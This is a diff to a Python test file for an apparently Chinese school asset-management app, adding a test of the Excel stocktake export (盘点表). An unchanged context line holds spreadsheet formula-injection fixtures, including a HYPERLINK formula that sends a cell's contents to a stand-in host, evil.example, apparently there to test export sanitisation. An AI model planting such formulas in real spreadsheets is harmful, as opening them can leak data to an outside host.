@@ -10,7 +10,8 @@ from openpyxl import load_workbook
 
 from houqin import db
 from houqin.ledgers.catalogue import CATALOGUE
-from houqin.models import Place, WorkOrder
+from houqin.assets.stocktake import close_stocktake, confirm_item, open_stocktake, resolve_elsewhere
+from houqin.models import Item, Place, StocktakeLine, WorkOrder
 
 TYPED = {'title': '=HYPERLINK("http://evil.example/?x="&B2,"Click")', 'name': '@SUM(1)', 'place': '+1'}
 
@@ -104,3 +105,31 @@ def test_the_ledgers_page_filters_and_downloads(app, school, as_role):
     assert manager.get('/ledgers/?person=99999').status_code == 404
     assert manager.get(f'/ledgers/download?kind=assets&place={2 ** 64}').status_code == 400
     assert as_role('janitor').get('/ledgers/').status_code == 403
+
+
+def test_the_stocktake_sheet_lists_every_asset_with_where_it_was_found(app, school, runner, tmp_path):
+    """盘点表: expected and found places, the result, who counted, the resolution and the signature."""
+    with db.database.connection_context():
+        campus, room, users = school['campus'], school['room'], school['users']
+        other = Place.create(campus=campus, parent=school['floor'], name='102教室', kind='classroom')
+        chair = Item.create(campus=campus, place=room, kind='chair', name='椅子', asset_number='YZ-1')
+        lamp = Item.create(campus=campus, place=other, kind='light', name='台灯', asset_number='TD-1')
+        take = open_stocktake(campus, users['manager'], name='期末清点', scope_place=school['floor'],
+                              counters=[users['teacher'].id])
+        confirm_item(take, users['teacher'], school['desk'], room)
+        line = confirm_item(take, users['teacher'], chair, other)  # found in the wrong room
+        resolve_elsewhere(take, StocktakeLine.get(StocktakeLine.item == chair).id, 'move')
+        close_stocktake(take, users['manager'], '王主任')
+        assert line is not None and lamp.id
+    path = tmp_path / 'stocktake.xlsx'
+    result = export(runner, 'stocktake', path)
+    assert result.exit_code == 0, result.output
+    ws = load_workbook(path).worksheets[0]
+    header = [c.value for c in ws[2]]
+    assert header[:6] == ['财产清点', '开始时间', '资产编号', '名称', '应在位置', '结果']
+    rows = {r[2]: r for r in ws.iter_rows(min_row=3, values_only=True)}
+    assert set(rows) == {school['desk'].asset_number, 'YZ-1', 'TD-1'}
+    assert rows['YZ-1'][4].endswith('101教室') and rows['YZ-1'][5] == '在别处找到' and rows['YZ-1'][6].endswith('102教室')
+    assert rows['TD-1'][5] == '未找到' and rows['TD-1'][8] is None
+    assert rows[school['desk'].asset_number][5] == '找到' and rows['YZ-1'][11] == '王主任'
+    assert isinstance(rows['YZ-1'][9], datetime.datetime)  # counted at: a real Excel date
